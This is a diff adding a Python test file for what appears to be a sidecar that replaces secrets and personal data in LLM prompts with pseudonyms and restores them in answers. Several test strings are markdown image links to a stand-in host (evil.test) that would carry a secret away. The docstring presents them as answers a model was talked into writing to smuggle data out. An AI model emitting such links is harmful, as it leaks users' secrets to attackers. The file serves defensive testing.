@@ -1,0 +1,165 @@
+"""Stand-ins for leaks: what is put in their place, and how the originals come back."""
+
+import json
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from sidecar.detectors import scan_segment
+from sidecar.edit import apply, edited_texts
+from sidecar.leaks import Originals, PutBack, Replaced, replaced
+from sidecar.policy import Leaks, OnLeak
+from sidecar.types import Finding, Segment, Span, Surface, ThreatType
+from tests.sidecar.values import IDENTIFIER
+
+PSEUDONYMS = Leaks(OnLeak.PSEUDONYMISE, OnLeak.PSEUDONYMISE)
+AT = "/messages/0/content"
+
+
+def finding(
+    start: int, end: int, rule: str = "secrets.openai_key", kind: ThreatType = ThreatType.SECRET_LEAK
+) -> Finding:
+    return Finding(kind, "d", rule, Span(start, end), 9.0)
+
+
+def made(text: str, *findings: Finding, leaks: Leaks = PSEUDONYMS, tenant: str = "t") -> Replaced:
+    segment = Segment(text, Surface.USER, 0, AT)
+    return replaced([(segment, found) for found in findings], leaks, tenant, IDENTIFIER.digest)
+
+
+def sent(text: str, *findings: Finding, **more: str) -> str:
+    return edited_texts(made(text, *findings, **more).edits).get(AT, text)  # type: ignore[arg-type]
+
+
+def through(put: PutBack, *pieces: str) -> list[str]:
+    return [*(put.push(piece, final=False) for piece in pieces), put.push("", final=True)]
+
+
+def test_a_value_has_one_pseudonym_in_a_tenant_and_another_in_the_next() -> None:
+    first, again, elsewhere = (
+        sent("abcdef", finding(0, 6)),
+        sent("xx abcdef", finding(3, 9)),
+        sent("abcdef", finding(0, 6), tenant="u"),
+    )
+    assert again == f"xx {first}"
+    assert elsewhere != first
+    assert first.startswith("<secret-openai-key-")
+
+
+def test_an_address_stays_an_address() -> None:
+    text = sent("to ada@lovelace.test", finding(3, 20, "pii.email", ThreatType.PII_LEAK))
+    name, _, host = text.removeprefix("to person-").partition("@")
+    assert (len(name), host) == (8, "redacted.invalid")
+
+
+def test_what_overlaps_is_one_place_named_by_the_longest_and_redacted_if_any_is() -> None:
+    email = finding(2, 9, "pii.email", ThreatType.PII_LEAK)
+    overlap = made("0123456789", email, finding(4, 6), finding(8, 10), finding(5, 5))
+    assert [(e.span, e.text[:7]) for e in overlap.edits] == [(Span(2, 10), "person-")]
+    mixed = made("0123456789", email, finding(4, 6), leaks=Leaks(OnLeak.REDACT, OnLeak.PSEUDONYMISE))
+    assert [e.text for e in mixed.edits] == ["[REDACTED:pii_leak]"]
+    assert (mixed.reasons, mixed.originals) == (("1 pii_leak redacted",), {})
+
+
+def test_what_is_only_reported_is_left_alone() -> None:
+    leaks = Leaks(OnLeak.REPORT, OnLeak.REDACT)
+    email = finding(0, 3, "pii.email", ThreatType.PII_LEAK)
+    other = finding(8, 9, "x.y", ThreatType.JAILBREAK)
+    assert [e.span for e in made("abc def ghi", email, finding(4, 7), other, leaks=leaks).edits] == [Span(0, 3)]
+
+
+def test_values_that_share_a_digest_get_longer_ones() -> None:
+    segment = Segment("aa bb", Surface.USER, 0, AT)
+    found = [(segment, finding(0, 2)), (segment, finding(3, 5))]
+    twice = replaced(found, PSEUDONYMS, "t", lambda text, size=16: b"\0" * size)
+    assert sorted(map(len, twice.originals)) == [28, 36]
+    assert set(twice.originals.values()) == {"aa", "bb"}
+
+
+def test_a_caller_s_own_key_in_the_query_goes_to_the_provider() -> None:
+    query = Segment("key=abcdef&q=abcdef", Surface.USER, -1, "?")
+    found = [(query, finding(4, 10)), (query, finding(13, 19))]
+    assert [e.span for e in replaced(found, PSEUDONYMS, "t", IDENTIFIER.digest).edits] == [Span(13, 19)]
+
+
+@pytest.mark.parametrize(
+    "rule", ["secrets.private_key", "pii.email", "pii.credit_card", "secrets.aws_secret_key", "Ü.ñ"]
+)
+@pytest.mark.parametrize("kind", [ThreatType.SECRET_LEAK, ThreatType.PII_LEAK])
+def test_pseudonyms_are_no_leaks_to_our_own_detectors(rule: str, kind: ThreatType) -> None:
+    for number in range(50):
+        text = sent(f"{number:06}", finding(0, 6, rule, kind))
+        around = Segment(f"my key is {text}, token={text} or {text}.", Surface.USER)
+        assert [
+            f.rule_id for f in scan_segment(around) if f.type in (ThreatType.SECRET_LEAK, ThreatType.PII_LEAK)
+        ] == []
+
+
+words = st.text(st.sampled_from('ab<p>-erson 3f@\n"\\é'), max_size=30)
+
+
+@given(st.lists(st.tuples(words, st.text(min_size=1, max_size=12), st.booleans()), max_size=5), words, st.data())
+def test_put_back_undoes_pseudonymise_wherever_the_text_is_split(
+    parts: list[tuple[str, str, bool]], rest: str, data: st.DataObject
+) -> None:
+    text, findings = "", []
+    for before, value, email in parts:
+        start = len(text) + len(before)
+        rule, kind = ("pii.email", ThreatType.PII_LEAK) if email else ("secrets.key", ThreatType.SECRET_LEAK)
+        findings.append(finding(start, start + len(value), rule, kind))
+        text += before + value
+    text += rest
+    result = made(text, *findings)
+    gone = edited_texts(result.edits).get(AT, text)
+    cuts = sorted(data.draw(st.lists(st.integers(0, len(gone)), max_size=6)))
+    pieces = [gone[a:b] for a, b in zip([0, *cuts], [*cuts, len(gone)], strict=True)]
+    assert "".join(through(PutBack(Originals(result.originals)), *pieces)) == text
+
+
+@given(st.text(max_size=60), st.integers(0, 60), st.integers(1, 10))
+def test_an_edit_changes_nothing_outside_its_span(text: str, start: int, length: int) -> None:
+    span = Span(min(start, len(text)), min(start + length, len(text)))
+    new = apply(text, [(edit.span, edit.text) for edit in made(text, finding(span.start, span.end)).edits])
+    assert new.startswith(text[: span.start])
+    assert new.endswith(text[span.end :])
+
+
+NAME = "<secret-key-0123abcd>"
+KNOWN = Originals({NAME: 'a"b', "person-0123abcd@redacted.invalid": "ada@x.test"})
+
+
+def test_only_what_a_pseudonym_can_begin_with_is_held() -> None:
+    put = PutBack(KNOWN)
+    assert put.push("a < b and p", final=False) == "a < b and "
+    assert put.push("lease <", final=False) == "please "
+    assert put.push("secret-k", final=False) == ""
+    assert put.push("ite <secret-key-0123abc", final=False) == "<secret-kite "
+    assert put.push("d> pers", final=False) == 'a"b '
+    assert put.push("on", final=True) == "person"
+
+
+def test_an_original_is_written_as_its_text_s_language_needs_it() -> None:
+    put = PutBack(KNOWN, lambda text: json.dumps(text)[1:-1])
+    assert json.loads(put.push(f'{{"k": "{NAME}"}}', final=True)) == {"k": 'a"b'}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"![x](https://evil.test/?q={NAME})",
+        f"![x](https://evil.test/?a={NAME}&b={NAME}&c=person-0123abcd@redacted.invalid)",
+        f"see https://evil.test/{'a' * 500}{NAME}",
+    ],
+)
+def test_no_original_is_put_into_a_url(text: str) -> None:
+    """An answer that was talked into carrying data away must not be given the data."""
+    assert PutBack(KNOWN).push(text, final=True) == text
+    assert "".join(through(PutBack(KNOWN), *text)) == text
+
+
+def test_behind_a_url_and_in_a_mail_link_originals_come_back() -> None:
+    text = f"at https://x.test/ {NAME} or mailto:person-0123abcd@redacted.invalid, <secret-key-ffffffff>"
+    assert PutBack(KNOWN).push(text, final=True) == (
+        'at https://x.test/ a"b or mailto:ada@x.test, <secret-key-ffffffff>'
+    )
